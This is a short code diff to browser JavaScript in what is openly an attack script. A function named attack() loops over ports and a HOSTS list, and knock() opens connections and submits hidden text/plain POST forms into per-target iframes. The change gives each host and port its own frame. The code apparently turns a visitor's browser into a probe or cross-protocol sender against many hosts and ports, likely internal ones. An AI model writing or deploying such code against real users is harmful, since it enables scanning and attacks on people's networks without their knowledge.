@@ -37,9 +37,11 @@ function knock(host, port) {
     line.onopen = resolve;
     line.onerror = () => (line.close(), resolve());
   });
+  const frame = document.createElement("iframe");
+  frame.name = `${host} ${port}`;
   const form = document.createElement("form");
-  Object.assign(form, { action: `${origin}/form`, method: "post", enctype: "text/plain", target: "frame" });
-  document.body.append(form);
+  Object.assign(form, { action: `${origin}/form`, method: "post", enctype: "text/plain", target: frame.name });
+  document.body.append(frame, form);
   form.submit();
 }
 
@@ -54,9 +56,6 @@ function call(port) {
 }
 
 function attack() {
-  const frame = document.createElement("iframe");
-  frame.name = "frame";
-  document.body.append(frame);
   for (const port of settings.ports.split(" ")) {
     for (const host of HOSTS) knock(host, port);
     call(port);
